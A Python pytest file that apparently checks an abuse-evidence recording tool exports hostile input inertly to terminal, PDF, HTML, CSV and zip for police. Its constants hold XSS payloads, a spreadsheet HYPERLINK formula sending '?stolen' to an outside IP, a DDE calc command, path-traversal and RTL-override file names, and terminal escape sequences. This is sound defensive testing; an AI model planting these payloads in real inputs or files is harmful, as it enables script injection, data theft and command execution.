"""Whatever an abuser writes, from the command line to the officer's browser it stays the text that it is."""

import csv
import io
import re
import subprocess
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
from command_line import is_harmless
from page import Page, checker_page
from selenium.common.exceptions import NoAlertPresentException
from street import Said, Street

MARKUP = "<img src=x onerror=alert(1)>"
FONT = '<font color="[1,2,3]">x</font>'
PARA = '</para><para><a href="javascript:alert(2)">y</a>'
SCRIPT = "</style></title><script>alert(3)</script><svg onload=alert(4)>"
ENTITIES = "&lt;b&gt; &#60;i&#62; &amp;amp; ]]> <!-- <![CDATA["
FORMULA = '=HYPERLINK("http://192.0.2.1/?stolen","open")'
TURNED = "kim\u202egpj.exe"
ISOLATED = "\u2066right\u2069 \u200b\u200f\ufeff"
CONTROLS = "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)]))
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b[31mred"
LONE_MARKS = "\u0301\u0302 \u0323"
HEAP = "e" + "\u0300" * 60
NUMBERS = [f"x{number:04d}" for number in range(2000)]
UNBROKEN = "".join(NUMBERS)
ADDRESS = "javascript:alert(document.domain)"
DANGEROUS = "img script font para iframe foreignobject object embed form input base link audio video".split()
NAMES = (
    b"quote\"and'line\nbreak.png",
    b"..\\..\\evil.txt",
    b"=cmd|' -C calc'!A0.csv",
    "gnp\u202eexe.jpg".encode(),
    b"esc\x1b[2J.pdf",
    b"bytes\xff\xfe.png",
    b"-rf --.txt",
    b"CON.txt",
    ("ü" * 120).encode() + b".png",
    b"..%2f..%2fup.html",
)
SAFE_NAME = re.compile(r"[A-Za-z0-9_-]+(?:/?[A-Za-z0-9_-]+)*(?:\.[a-z0-9]+)*")


@dataclass(frozen=True)
class HandedOver:
    """The hostile case after its export."""

    street: Street
    bag: Path
    said: dict[str, Said]

    def text(self, name: str) -> str:
        return (self.bag / "data" / name).read_text("utf-8-sig")


@pytest.fixture(scope="module")
def handed_over(tmp_path_factory: pytest.TempPathFactory) -> HandedOver:
    street = Street(tmp_path_factory.mktemp("hostile"))
    street.new_vault()
    files = [
        Path(str(street.stick).encode().decode() + "/" + name.decode("utf-8", "surrogateescape")) for name in NAMES
    ]
    for file in files:
        file.write_bytes(b"evidence")
    said = {"add": street("add", *files, "--sensitivity", "ordinary", "--url", ADDRESS)}
    account = street(
        *("record", "account", "platform=skype", f"display_name={MARKUP}", f"handle={TURNED}", f"notes={UNBROKEN}"),
        *(
            f"persistent_id={ESCAPES}",
            f"claimed_identity={SCRIPT}",
            f"who_i_think={LONE_MARKS}",
            f"profile_url={ADDRESS}",
        ),
    ).out.strip()
    payment = street(
        *("record", "payment", "status=demanded", "amount=-2+3", "recipient=@SUM(1+1)", f"exact_words={CONTROLS}"),
        *(f"notes={FORMULA}", f"account={account}", "reference=+441", f"how_known={HEAP}"),
    ).out.strip()
    street("record", "incident", f"what_happened={ENTITIES}\n{ISOLATED}\n{PARA}", f"exact_words={FONT}")
    for ref, title in (("AB/1", FONT), ("AB/2", PARA), ("AB/3", TURNED), ("AB/4", SCRIPT)):
        street("amend", ref, f"title={title}")
    said["list"] = street("list")
    for name, subject in (("account", account), ("payment", payment), ("exhibit", "AB/1")):
        said[name] = street("show", subject)
        said[f"{name} history"] = street("show", subject, "--history")
    said["json"] = street("list", "--json")
    said["export"] = street("export", street.handed_over / "report", "--for", "police")
    said["verify"] = street.verify(street.package)
    with zipfile.ZipFile(street.package) as archive:
        archive.extractall(street.folder / "unpacked")
    (bag,) = (street.folder / "unpacked").iterdir()
    return HandedOver(street, bag, said)


SHOWN = {
    "markup": MARKUP,
    "font": FONT,
    "para": PARA,
    "script": SCRIPT,
    "entities": ENTITIES,
    "formula": FORMULA,
    "turned": TURNED,
    "isolated": ISOLATED,
    "controls": CONTROLS,
    "escapes": ESCAPES,
    "lone marks": LONE_MARKS,
    "address": ADDRESS,
}


def marked(text: str) -> str:
    """The text as it is to be read: [U+...] for what cannot be seen or has nothing to stand on."""
    unseen = {"Cc", "Cf", "Mn"}
    return "".join(f"[U+{ord(char):04X}]" if unicodedata.category(char) in unseen else char for char in text)


def squeezed(text: str) -> str:
    """Without the white space that line breaking adds and takes away."""
    return "".join(unicodedata.normalize("NFKC", text).split())


def test_every_command_succeeds_and_the_package_is_intact(handed_over):
    failed = {name: said for name, said in handed_over.said.items() if said.status != 0 or said.err}
    assert failed == {}
    assert "Intact" in handed_over.said["verify"].out


@pytest.mark.parametrize("name", ["add", "list", "account", "account history", "payment", "payment history", "exhibit",
                                  "exhibit history", "json", "export", "verify"])  # fmt: skip
def test_a_terminal_takes_nothing_in_it_for_a_command(handed_over, name):
    said = handed_over.said[name]
    assert said.out
    assert is_harmless(said.out + said.err)


@pytest.fixture(scope="module")
def pdf_text(handed_over: HandedOver) -> str:
    """The words of all pages in one row, without the lines that stand on every page."""
    report = handed_over.bag / "data" / "report.pdf"
    done = subprocess.run(["pdftotext", "-raw", report, "-"], capture_output=True, check=True, timeout=60)
    pages = done.stdout.decode().split("\f")
    running = Counter(line for page in pages for line in {re.sub(r"\d+", "1", line) for line in page.splitlines()})
    lines = [line for page in pages for line in page.splitlines()]
    return squeezed(" ".join(line for line in lines if running[re.sub(r"\d+", "1", line)] < len(pages) / 2))


@pytest.mark.parametrize("name", SHOWN)
def test_the_pdf_shows_the_text_as_it_is(pdf_text, name):
    assert squeezed(marked(SHOWN[name])) in pdf_text


def test_the_pdf_shows_ten_thousand_letters_without_a_space(pdf_text):
    assert UNBROKEN in pdf_text


@pytest.mark.parametrize("asked", ["-url", "-js"])
def test_the_pdf_holds_no_link_to_elsewhere_and_no_script(handed_over, asked):
    report = handed_over.bag / "data" / "report.pdf"
    done = subprocess.run(["pdfinfo", asked, report], capture_output=True, text=True, check=True, timeout=60)
    assert [line for line in done.stdout.splitlines() if ":" in line] == []


class Reading(HTMLParser):
    """What a browser would make of a page: its elements, their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words.append(data)


@pytest.fixture(scope="module")
def html(handed_over: HandedOver) -> Reading:
    return Reading(handed_over.text("report.html"))


@pytest.mark.parametrize("name", [*SHOWN, "unbroken"])
def test_the_web_page_shows_the_text_as_it_is(html, name):
    text = UNBROKEN if name == "unbroken" else marked(SHOWN[name])
    assert squeezed(text) in squeezed("".join(html.words))


def test_no_text_becomes_a_part_of_the_web_page(html):
    assert [tag for tag in html.tags if tag in DANGEROUS] == []
    assert [html.tags.count(tag) for tag in ("style", "title", "svg")] == [1, 1, 1]
    assert [name for name, _value in html.attributes if name.startswith("on") or name in {"src", "style"}] == []
    assert [value for name, value in html.attributes if name == "href" and not value.startswith("#")] == []


def tables(bag: Path) -> Iterator[tuple[str, list[list[str]]]]:
    for path in sorted((bag / "data" / "tables").iterdir()):
        yield path.name, list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))


def test_no_cell_of_a_table_is_a_formula(handed_over):
    cells = [cell for _name, rows in tables(handed_over.bag) for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    for text in (FORMULA, "@SUM(1+1)", "+441", "-2+3", NAMES[2].decode()):
        assert f"'{text}" in cells
    for text in (MARKUP, SCRIPT, UNBROKEN):
        assert text in cells
    for text in (TURNED, ESCAPES):
        told = "".join(f"[U+{ord(c):04X}]" if c == "\u202e" or unicodedata.category(c) == "Cc" else c for c in text)
        assert told in cells


def test_every_table_has_as_many_columns_in_every_row(handed_over):
    for name, rows in tables(handed_over.bag):
        assert len({len(row) for row in rows}) == 1, name


def test_the_names_in_the_package_are_safe_on_every_system(handed_over):
    with zipfile.ZipFile(handed_over.street.package) as archive:
        names = archive.namelist()
    assert [name for name in names if not SAFE_NAME.fullmatch(name)] == []
    exhibits = sorted(name.rpartition("/")[2] for name in names if "/exhibits/" in name)
    assert [name.partition(".")[0] for name in exhibits] == [f"AB-{number:04d}" for number in range(1, len(NAMES) + 1)]
    assert {path.name for path in handed_over.street.handed_over.iterdir()} == {"report"}


@pytest.fixture(scope="module")
def browser(handed_over: HandedOver, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    with checker_page(tmp_path_factory.mktemp("profile")) as page:
        yield page


def alerts(page: Page) -> list[str]:
    try:
        return [page.driver.switch_to.alert.text]
    except NoAlertPresentException:
        return []


def test_in_a_real_browser_the_report_loads_nothing_and_raises_no_alert(browser, handed_over):
    address = (handed_over.bag / "data" / "report.html").as_uri()
    browser.driver.get_log("performance")
    browser.driver.get(address)
    assert alerts(browser) == []
    assert browser.requests() == [address]
    assert browser.complaints() == []
    found = browser.driver.execute_script("return document.querySelectorAll(arguments[0]).length", ",".join(DANGEROUS))
    assert found == 0
    assert MARKUP in browser.driver.execute_script("return document.body.innerText")


def test_in_a_real_browser_the_checker_page_says_intact_and_shows_nothing_of_theirs(browser, handed_over):
    browser.open()
    assert browser.check_zip(handed_over.street.package)["verdict"] == "intact"
    assert alerts(browser) == []
    assert browser.complaints() == []
